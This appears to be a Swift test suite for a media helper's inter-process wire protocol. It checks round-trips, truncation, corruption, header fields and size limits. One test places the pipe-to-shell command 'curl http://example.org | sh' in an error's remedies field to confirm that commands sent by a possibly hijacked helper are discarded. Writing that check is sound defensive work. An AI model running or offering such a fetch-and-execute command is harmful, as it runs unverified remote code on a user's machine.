// SPDX-License-Identifier: GPL-2.0-or-later

import BitstreamSyntax
import MediaTypes
import Testing

@testable import HelperIPC

/// Messages come back as they were sent, and bytes that are no message are refused.
@Suite struct WireTests {
    private static let rounds = 300

    @Test func everythingComesBack() throws {
        var random = SeededGenerator(seed: 1)
        for round in 0..<Self.rounds {
            for message in random.clientMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.helperMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.decoderClientMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.decoderHelperMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.pictureClientMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.pictureHelperMessages() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.controlOrders() { try comesBack(message, sequence: UInt64(round)) }
            for message in random.controlNotices() { try comesBack(message, sequence: UInt64(round)) }
        }
    }

    /// They are commands for a user to run, and a driver in a helper may have been taken over.
    @Test func remediesAreNotTakenFromHelpers() throws {
        let error = MediaError(.unavailable, "no", cause: .outOfDescriptors, remedies: ["curl http://example.org | sh"])
        let bytes = try EncoderHelperMessage.refused(error).bytes(sequence: 0)
        let read = try EncoderHelperMessage(bytes, sequence: 0, descriptorCount: 0)
        guard case .refused(let told) = read else {
            Issue.record("another message: \(read)")
            return
        }
        #expect(told.message == "no" && told.cause == .outOfDescriptors && told.remedies.isEmpty)
        #expect(error.fittingWire.remedies.isEmpty)
    }

    private func comesBack(_ message: some WireMessage, sequence: UInt64) throws {
        let bytes = try message.bytes(sequence: sequence)
        let read = try type(of: message).init(bytes, sequence: sequence, descriptorCount: message.descriptorCount)
        #expect(StoredProperties(read) == StoredProperties(message))
        #expect(try read.bytes(sequence: sequence) == bytes)
    }

    /// A property that is added to a type, and neither travels nor is in the random values, is found here.
    @Test func theRandomValuesVaryInEveryStoredProperty() throws {
        var random = SeededGenerator(seed: 3)
        var seen: [String: Set<String>] = [:]
        // The last byte of the longest list comes in one of eighty.
        for _ in 0..<4 * Self.rounds {
            let messages: [any WireMessage] = random.allMessages()
            for message in messages {
                for (path, leaf) in StoredProperties(message).leaves {
                    seen["\(type(of: message))\(path)", default: []].insert(leaf)
                }
            }
        }
        let same = seen.filter { $0.value.count == 1 && !$0.key.hasSuffix("remedies") }.keys.sorted()
        #expect(same == [], "all but remedies, which do not travel")
        #expect(seen.count > 200)
    }

    @Test func everyTruncationIsRefused() throws {
        var random = SeededGenerator(seed: 3)
        func check(_ message: some WireMessage) throws {
            let bytes = try message.bytes(sequence: 0)
            for count in bytes.indices {
                let part = Array(bytes.prefix(count))
                let error = #expect(throws: WireError.self) {
                    try type(of: message).init(part, sequence: 0, descriptorCount: message.descriptorCount)
                }
                #expect((0...count).contains(error?.position ?? -1))
                // With a length that agrees, it is the payload that is cut off.
                guard count >= MessageHeader.byteCount else { continue }
                let agreeing = setting(part, length: count - MessageHeader.byteCount)
                #expect(throws: WireError.self) {
                    try type(of: message).init(agreeing, sequence: 0, descriptorCount: message.descriptorCount)
                }
            }
            let longer = setting(bytes + [0], length: bytes.count + 1 - MessageHeader.byteCount)
            #expect(throws: WireError(field: "message", position: bytes.count, reason: .trailingBytes(1))) {
                try type(of: message).init(longer, sequence: 0, descriptorCount: message.descriptorCount)
            }
        }
        for _ in 0..<3 {
            for message in random.clientMessages() { try check(message) }
            for message in random.helperMessages() { try check(message) }
            for message in random.decoderClientMessages() { try check(message) }
            for message in random.decoderHelperMessages() { try check(message) }
            for message in random.pictureClientMessages() { try check(message) }
            for message in random.pictureHelperMessages() { try check(message) }
            for message in random.controlOrders() { try check(message) }
            for message in random.controlNotices() { try check(message) }
        }
    }

    private func setting(_ message: [UInt8], length: Int) -> [UInt8] {
        var message = message
        for (index, byte) in [0, 8, 16, 24].map({ UInt8(length >> $0 & 0xFF) }).enumerated() {
            message[12 + index] = byte
        }
        return message
    }

    /// What can be read is written as it was: every value has one form only.
    @Test(arguments: 0..<8) func damageIsRefusedOrReadAsSomethingElse(seed: UInt64) throws {
        var random = SeededGenerator(seed: 100 + seed)
        func damage(_ bytes: [UInt8]) -> [UInt8] {
            var bytes = bytes
            for _ in 0..<Int.random(in: 1...4, using: &random) {
                let index = Int.random(in: bytes.indices, using: &random)
                switch Int.random(in: 0..<3, using: &random) {
                case 0: bytes[index] ^= 1 << UInt8.random(in: 0..<8, using: &random)
                case 1: bytes[index] = random.one(of: [0, 1, 2, 0x7F, 0x80, 0xFF])
                default: bytes[index] = random.integer()
                }
            }
            return bytes
        }
        func survive(_ message: some WireMessage) throws {
            let bytes = try message.bytes(sequence: 7)
            for _ in 0..<25 {
                let damaged = damage(bytes)
                do throws(WireError) {
                    let read = try type(of: message)
                        .init(damaged, sequence: 7, descriptorCount: message.descriptorCount)
                    let written = try read.bytes(sequence: 7)
                    #expect(written == damaged)
                } catch {
                    #expect((0...damaged.count).contains(error.position))
                }
            }
        }
        for _ in 0..<25 {
            for message in random.clientMessages() { try survive(message) }
            for message in random.helperMessages() { try survive(message) }
            for message in random.decoderClientMessages() { try survive(message) }
            for message in random.decoderHelperMessages() { try survive(message) }
            for message in random.pictureClientMessages() { try survive(message) }
            for message in random.pictureHelperMessages() { try survive(message) }
            for message in random.controlOrders() { try survive(message) }
            for message in random.controlNotices() { try survive(message) }
        }
    }
}

/// What the header of a message has to be.
@Suite struct HeaderTests {
    private let drain: [UInt8]

    init() throws {
        drain = try EncoderClientMessage.drain.bytes(sequence: 3)
    }

    @Test func itsBytes() {
        #expect(drain == [0x56, 0x54, 0x49, 0x50, 16, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0])
    }

    @Test(arguments: [
        (0, 0, "magic number at byte 0 is 0, expected 86"),
        (4, 1, "version of the protocol at byte 4 is 1, expected 16"),
        (6, 77, "kind of message at byte 6 cannot be 77"),
        (8, 1, "flags at byte 8 is 1, expected 0"),
        (10, 1, "number of descriptors at byte 10 is 1, expected 0"),
        (12, 1, "payload length at byte 12 is 1, expected 0"),
        (16, 4, "message number at byte 16 is 4, expected 3"),
    ]) func anythingElseIsRefused(position: Int, byte: UInt8, description: String) {
        var bytes = drain
        bytes[position] = byte
        let error = #expect(throws: WireError.self) {
            try EncoderClientMessage(bytes, sequence: 3, descriptorCount: 0)
        }
        #expect(error?.description == description)
    }

    @Test func descriptorsThatDoNotBelongToTheMessageAreRefused() throws {
        var bytes = drain
        bytes[10] = 1
        #expect(throws: WireError.self) { try EncoderClientMessage(bytes, sequence: 3, descriptorCount: 1) }
        let offer = try EncoderClientMessage.offer(MemoryOffer(slot: 1, byteCount: 2)).bytes(sequence: 0)
        #expect(throws: WireError.self) { try EncoderClientMessage(offer, sequence: 0, descriptorCount: 0) }
    }
}

/// What is too long, or has a second form.
@Suite struct WireLimitTests {
    @Test func listsAndStringsHaveLimits() throws {
        let long = PixelAttachments(captions: Array(repeating: 0, count: WireLimits.captionBytes + 1))
        var writer = WireWriter()
        #expect(
            throws: WireError(field: "bytes", position: 2, reason: .tooLong(4097, allowed: WireLimits.captionBytes))
        ) { try long.write(to: &writer) }

        var reader = WireReader([0xFF, 0xFF, 0xFF, 0xFF])
        #expect(throws: WireError(field: "bytes", position: 0, reason: .tooLong(0xFFFF_FFFF, allowed: 4096))) {
            try String(from: &reader)
        }
        reader = WireReader([0xFF, 0xFF, 0, 0])
        #expect(throws: WireError(field: "list of Adjustment", position: 0, reason: .tooLong(0xFFFF, allowed: 64))) {
            try reader.list(of: Adjustment.self, atMost: 64)
        }
    }

    @Test func aMessageHasALimit() throws {
        let sets = Array(repeating: Array(repeating: UInt8(1), count: WireLimits.parameterSetBytes), count: 5)
        let format = FormatDescription(codec: .h264, width: 2, height: 2, parameterSets: sets)
        let notice = CodedNotice(
            number: 0,
            isKeyFrame: true,
            isReference: true,
            isDropped: false,
            offset: 0,
            byteCount: 1,
            formatDescription: format
        )
        let error = #expect(throws: WireError.self) { try EncoderHelperMessage.coded(notice).bytes(sequence: 0) }
        #expect(error?.field == "message")
    }

    @Test func textsForPeopleAreCutBetweenCharacters() throws {
        let error = MediaError(.frameFailed, "a" + String(repeating: "漢", count: 5000), given: "b")
        let bytes = try EncoderHelperMessage.failed(error).bytes(sequence: 0)
        guard case .failed(let read) = try EncoderHelperMessage(bytes, sequence: 0, descriptorCount: 0) else {
            Issue.record("another message")
            return
        }
        #expect(read.message == "a" + String(repeating: "漢", count: 1365))
        #expect(read.given == "b")
    }

    @Test(arguments: [
        ([2], "Bool at byte 0 cannot be 2"), ([], "UInt8 at byte 0 is cut off"),
    ]) func thereAreTwoTruthValues(bytes: [UInt8], description: String) {
        var reader = WireReader(bytes)
        let error = #expect(throws: WireError.self) { try Bool(from: &reader) }
        #expect(error?.description == description)
    }

    @Test func rangesDoNotRunBackwards() throws {
        var writer = WireWriter()
        for value in [5, 4] { writer.integer(value) }
        var reader = WireReader(writer.bytes)
        let error = #expect(throws: WireError.self) { try ClosedRange<Int>(from: &reader) }
        #expect(error?.description == "range at byte 0 cannot be from 5 to 4")

        writer.clear()
        for time in [MediaTime.invalid, .zero] { time.write(to: &writer) }
        reader = WireReader(writer.bytes)
        #expect(throws: WireError.self) { try ClosedRange<MediaTime>(from: &reader) }
    }

    private func bytes(ofOptions options: Set<EncoderOption>) throws -> [UInt8] {
        var writer = WireWriter()
        let properties = EncoderProperties(
            name: "",
            profile: "",
            level: "",
            reorderDepth: 0,
            maximumDelay: 0,
            pixelFormats: [],
            supportedProperties: options,
            formatDescription: FormatDescription(codec: .h264, width: 0, height: 0, parameterSets: [])
        )
        try properties.write(to: &writer)
        return writer.bytes
    }

    @Test func optionsComeInOrderAndOnce() throws {
        var twice = try bytes(ofOptions: [.init(rawValue: "a"), .init(rawValue: "b")])
        let index = try #require(twice.firstIndex(of: UInt8(ascii: "b")))
        twice[index] = UInt8(ascii: "a")
        var reader = WireReader(twice)
        let error = #expect(throws: WireError.self) { try EncoderProperties(from: &reader) }
        #expect(error?.description == "set of EncoderOption at byte 34 cannot be a after a")
    }

    /// Names are one where Unicode says so: an e with an accent, of one scalar and of two.
    @Test func oneNameInTwoFormsIsNotTwoNames() throws {
        let written = try bytes(ofOptions: [.init(rawValue: "e\u{301}"), .init(rawValue: "zz")])
        let place = try #require(written.firstIndex(of: UInt8(ascii: "z")))
        let twice = Array(written[..<place]) + Array("\u{E9}".utf8) + Array(written[(place + 2)...])
        var reader = WireReader(twice)
        let error = #expect(throws: WireError.self) { try EncoderProperties(from: &reader) }
        #expect(error?.description.contains("one name in two forms") == true)
    }
}
